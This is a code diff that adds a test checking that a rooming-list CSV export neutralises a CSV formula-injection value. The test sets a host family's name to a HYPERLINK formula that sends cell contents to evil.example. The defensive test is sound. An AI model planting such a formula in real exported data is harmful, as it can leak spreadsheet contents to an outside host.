@@ -337,6 +337,19 @@ describe('matching and placements (real Postgres, real Kafka)', () => {
       await as(t.ruiz).get(`/delegations/${d}/rooming-list`).expect(403);
     });
 
+    it('a host who renames their family to a spreadsheet formula gets it printed inert in the rooming list CSV', async () => {
+      const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
+      await request(url).patch(`/api/host-matching/families/${fam.portland}`).set('authorization', `Bearer ${t.portland}`).send({ name: formula }).expect(200);
+      try {
+        const csv = (await as(t.coordinator).get(`/delegations/${d}/rooming-list?format=csv`).expect(200)).text;
+        const row = csv.split('\n').find((l) => l.includes('Zhou Lin'))!;
+        expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",`)).toBe(true);
+        expect(csv.split('\n').some((l) => /^"?[=+\-@]/.test(l))).toBe(false);
+      } finally {
+        await request(url).patch(`/api/host-matching/families/${fam.portland}`).set('authorization', `Bearer ${t.portland}`).send({ name: 'Portland' }).expect(200);
+      }
+    });
+
     it('a cancelled delegation releases every placement and open offer', async () => {
       const before = await db.query<{ id: string; status: string }>(`SELECT id, status FROM offer WHERE delegation_id = $1 AND status IN ('offered', 'accepted', 'confirmed')`, [d]);
       expect(before.length).toBe(4);
